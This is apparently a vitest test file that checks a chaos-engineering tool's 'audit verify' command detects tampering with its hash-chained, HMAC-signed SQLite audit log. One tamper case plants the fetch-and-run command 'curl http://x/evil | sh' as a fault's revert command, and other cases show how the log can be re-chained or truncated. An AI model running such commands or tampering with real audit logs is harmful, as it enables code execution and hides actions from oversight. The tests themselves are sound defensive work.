/**
 * The audit cannot be quietly shortened or re-chained (issue 12 §3). A real game day on the netns
 * lab (replica-partition, waits shortened: faults, probes, samples, approvals) and a `gameday
 * inject` write a workspace audit; its head is taken from the run's own output (stdout, --json,
 * JUnit, report). Then each tamper case edits a copy of the SQLite file with the sqlite module
 * directly, as a local attacker would, and `gameday audit verify` (the built CLI) must say so.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { copyFileSync, existsSync, mkdtempSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type BetterSqlite from 'better-sqlite3';
import { keyFile, readKey, type AuditEvent } from '../../src-main/audit/index.js';
import { anchorFile } from '../../src-main/audit/anchor.js';
import { eventHash } from '../../src-main/audit/chain.js';
import { eventMac, recordMac } from '../../src-main/audit/keys.js';
import { getTestLab } from '../lab/fixture.js';
import type { LabInfo } from '../../src-main/lab/index.js';
import { CLEAN, cli, nodeTraces, parseRunJson, shortenedRunbook, workspace, type CliResult } from './helpers/engine-cli.js';

const Database = createRequire(import.meta.url)('better-sqlite3') as typeof BetterSqlite;
let lab: LabInfo;
let ws: string;
let runHead: { seq: number; hash: string };
let injectHead: string;
let dbId: string;

function edit(file: string, fn: (db: BetterSqlite.Database) => void): void {
  const db = new Database(file);
  try {
    fn(db);
  } finally {
    db.close();
  }
}

/** Recompute hashes (and with the key, MACs) from event `from` on: a re-chain after an edit. */
function rechain(db: BetterSqlite.Database, from: number, withKey: boolean): void {
  const key = readKey(keyFile());
  const id = (db.prepare("SELECT v FROM audit_meta WHERE k = 'db_id'").get() as { v: string }).v;
  let prev = (db.prepare('SELECT hash FROM events WHERE seq = ?').get(from - 1) as { hash: string }).hash;
  for (const r of db.prepare('SELECT * FROM events WHERE seq >= ? ORDER BY seq').all(from) as AuditEvent[]) {
    const hash = eventHash(prev, r);
    db.prepare('UPDATE events SET prev_hash = ?, hash = ?, mac = ? WHERE seq = ?').run(prev, hash, withKey ? eventMac(key, id, hash) : r.mac, r.seq);
    prev = hash;
  }
}

/** A copy of the workspace audit, tampered, checked by the CLI. */
async function verifyTampered(tamper: (db: BetterSqlite.Database) => void, extra: string[] = []): Promise<CliResult> {
  const file = join(mkdtempSync(join(tmpdir(), 'gd-tamper-')), 'audit.sqlite');
  copyFileSync(join(ws, 'audit.sqlite'), file);
  edit(file, tamper);
  return cli(lab, ws, ['audit', 'verify', '--file', file, ...extra]);
}

beforeAll(async () => {
  lab = getTestLab();
  ws = workspace();
  const book = shortenedRunbook('replica-partition.yaml', ws, '3s');
  const junit = join(ws, 'junit.xml');
  const r = await cli(lab, ws, ['run', book, '--approver', 'Dee', '--json', '--junit', junit]);
  const j = parseRunJson(r) as ReturnType<typeof parseRunJson> & { audit?: { head?: { seq: number; hash: string }; anchor?: string } };
  expect(r.code, r.err).toBe(0);
  runHead = j.audit!.head!;
  expect(runHead.hash).toMatch(/^[0-9a-f]{64}$/);
  // The same head in the JUnit properties.
  const xml = readFileSync(junit, 'utf8');
  expect(xml).toContain(`<property name="gameday.audit.head_seq" value="${runHead.seq}"/>`);
  expect(xml).toContain(`<property name="gameday.audit.head_hash" value="${runHead.hash}"/>`);
  // …and in the post-mortem (Markdown and JSON), made later by another process.
  const out = mkdtempSync(join(tmpdir(), 'gd-report-'));
  const rep = await cli(lab, ws, ['report', j.runId, '--format', 'md,json', '--output', out]);
  expect(rep.code, rep.err).toBe(0);
  const md = readFileSync(join(out, readdirSync(out).find((f) => f.endsWith('.md'))!), 'utf8');
  expect(md).toContain(`event ${runHead.seq}, sha256 \`${runHead.hash}\``);
  const model = JSON.parse(readFileSync(join(out, readdirSync(out).find((f) => f.endsWith('.json'))!), 'utf8')) as { integrity: { ok: boolean; head: unknown } };
  expect(model.integrity).toMatchObject({ ok: true, head: runHead });
  // An ad-hoc inject prints its head at the end.
  const inj = await cli(lab, ws, ['inject', 'port-block', 'node04', '-p', 'port=8080', '-d', '2s', '--approver', 'second-person']);
  expect(inj.code, inj.err).toBe(0);
  injectHead = /audit head: event (\d+), sha256 ([0-9a-f]{64})/.exec(inj.out)!.slice(1).join(':');
  const meta = new Database(join(ws, 'audit.sqlite'), { readonly: true });
  dbId = (meta.prepare("SELECT v FROM audit_meta WHERE k = 'db_id'").get() as { v: string }).v;
  const runId = (meta.prepare("SELECT id FROM runs WHERE id LIKE 'adhoc-%'").get() as { id: string }).id;
  meta.close();
  expect(await nodeTraces(lab, ['node04'], runId)).toEqual([{ node: 'node04', ...CLEAN }]);
}, 300_000);

describe('gameday audit verify on the untouched audit', () => {
  it('passes and names what it checked; the heads printed by the runs are still in the chain', async () => {
    const v = await cli(lab, ws, ['audit', 'verify']);
    expect(v.code, v.out + v.err).toBe(0);
    for (const name of ['chain', 'hmac', 'rows', 'anchor']) expect(v.out).toMatch(new RegExp(`✓ ${name}\\s`));
    expect(v.out).toMatch(/rows .*faults [1-9].*samples [1-9]/);
    for (const h of [`${runHead.seq}:${runHead.hash}`, injectHead]) {
      const e = await cli(lab, ws, ['audit', 'verify', '--expect-head', h]);
      expect(e.code, e.out).toBe(0);
      expect(e.out).toMatch(/✓ expected-head/);
    }
  });
});

describe('tamper cases (each on a copy, edited with the sqlite module)', () => {
  const cases: Array<[string, (db: BetterSqlite.Database) => void, RegExp]> = [
    ['the last event deleted', (db) => db.prepare('DELETE FROM events WHERE seq = (SELECT max(seq) FROM events)').run(), /✗ anchor .*truncated/],
    ['the last ten events deleted', (db) => db.prepare('DELETE FROM events WHERE seq > (SELECT max(seq) - 10 FROM events)').run(), /✗ anchor .*10 event\(s\) were removed/],
    ['an event changed and every later hash recomputed (no key)', (db) => (db.prepare("UPDATE events SET actor = 'nobody' WHERE seq = 5").run(), rechain(db, 5, false)), /✗ hmac .*not authentic/],
    ['an event changed and the chain re-computed with the key', (db) => (db.prepare("UPDATE events SET actor = 'nobody' WHERE seq = 5").run(), rechain(db, 5, true)), /✗ anchor .*re-chained/],
    ['faults.revert_cmd edited', (db) => db.prepare("UPDATE faults SET revert_cmd = 'curl http://x/evil | sh' WHERE rowid = 1").run(), /✗ rows .*faults: row .* differs/],
    ['faults.params edited', (db) => db.prepare("UPDATE faults SET params = '{\"port\":22}' WHERE rowid = 1").run(), /✗ rows .*faults: row .* differs/],
    ['faults.state edited (reverted → active)', (db) => db.prepare("UPDATE faults SET state = 'active' WHERE rowid = 1").run(), /✗ rows .*faults: row .* differs/],
    ['a fault row deleted', (db) => db.prepare('DELETE FROM faults WHERE rowid = 1').run(), /✗ rows .*is missing \(deleted\)/],
    ['a fault row inserted', (db) => db.prepare("INSERT INTO faults (id, run_id, node, kind, params, state, revert_cmd) VALUES ('fx', 'r', 'node01', 'port-block', '{}', 'active', 'reboot')").run(), /✗ rows .*"fx" is in no chained event/],
    ['a run marked completed', (db) => db.prepare("UPDATE runs SET status = 'completed' WHERE status <> 'completed'").run() && db.prepare("UPDATE runs SET ended_at = '2000-01-01T00:00:00.000Z'").run(), /✗ rows .*runs: row .* differs/],
    ['probe samples made healthy', (db) => db.prepare('UPDATE samples SET healthy = 1 WHERE healthy = 0').run(), /✗ rows .*samples: rows .* differ/],
    ['an approval removed', (db) => db.prepare('DELETE FROM approvals WHERE rowid = (SELECT max(rowid) FROM approvals)').run(), /✗ rows .*approvals: rows .* present/],
    ['a MAC removed', (db) => db.prepare('UPDATE events SET mac = NULL WHERE seq = 9').run(), /chain broken at event 9: it carries no MAC/],
    ['a key id forged', (db) => db.prepare("UPDATE events SET key_id = 'ffffffffffffffff' WHERE seq = 9").run(), /✗ hmac .*cannot authenticate 1 with key ffffffffffffffff/],
    ['one character of a command changed', (db) => db.prepare("UPDATE events SET data = replace(data, 'iptables', 'iptablez') WHERE seq = (SELECT min(seq) FROM events WHERE kind = 'exec.intent' AND data LIKE '%iptables%')").run(), /chain broken at event \d+: its content does not match its hash/],
  ];
  let detected = 0;
  it.each(cases)('%s → exit 1, named', async (_name, tamper, want) => {
    const r = await verifyTampered(tamper);
    expect(r.code, r.out + r.err).toBe(1);
    expect(r.out).toMatch(want);
    expect(r.err).not.toMatch(/    at |internal error/);
    detected++;
    if (detected === cases.length) console.log(`[tamper] ${detected}/${cases.length} tamper cases detected by gameday audit verify`);
  });

  it('cut short by someone holding the key, anchor forged to match: the head printed by the run still catches it', async () => {
    const afile = anchorFile(dbId);
    const saved = readFileSync(afile);
    const key = readKey(keyFile());
    try {
      const r = await verifyTampered(
        (db) => {
          // Back to the end of the game day: the inject run after it is gone (its rows too), and the anchor is rewritten.
          db.prepare('DELETE FROM events WHERE seq > ?').run(runHead.seq);
          db.prepare("DELETE FROM faults WHERE run_id LIKE 'adhoc-%'").run();
          db.prepare("DELETE FROM runs WHERE id LIKE 'adhoc-%'").run();
          const at = new Date().toISOString();
          writeFileSync(afile, JSON.stringify({ dbId, file: 'x', seq: runHead.seq, hash: runHead.hash, at, keyId: key.id, mac: recordMac(key, 'anchor', `${dbId}\u001f${runHead.seq}\u001f${runHead.hash}\u001f${at}`) }));
        },
        ['--expect-head', injectHead],
      );
      expect(r.code, r.out).toBe(1);
      expect(r.out).toMatch(/✓ anchor/); // the forged anchor agrees: from this machine alone it is invisible
      expect(r.out).toMatch(/✗ expected-head .*were removed \(truncated\)/);
    } finally {
      writeFileSync(afile, saved);
    }
  });
});

describe('files that are not an audit', () => {
  it('a missing path, a directory, an empty file, a text file: a clear error, exit 3, nothing created', async () => {
    const d = mkdtempSync(join(tmpdir(), 'gd-notaudit-'));
    writeFileSync(join(d, 'notes.txt'), 'not a database\n');
    writeFileSync(join(d, 'empty.sqlite'), '');
    for (const [f, msg] of [['missing.sqlite', /no such file: .*missing\.sqlite/], ['.', /is a folder, not a file/], ['empty.sqlite', /not an SQLite database \(empty file\)/], ['notes.txt', /not an SQLite database \(wrong header\)/]] as const) {
      const r = await cli(lab, ws, ['audit', 'verify', '--file', join(d, f)]);
      expect(r.code, `${f}: ${r.out}${r.err}`).toBe(3);
      expect(r.err).toMatch(msg);
      expect(r.err).not.toMatch(/    at |internal error/);
    }
    expect(existsSync(join(d, 'missing.sqlite'))).toBe(false);
    const bad = await cli(lab, ws, ['audit', 'verify', '--expect-head', 'not-a-head']);
    expect(bad.code).toBe(3);
  });
});
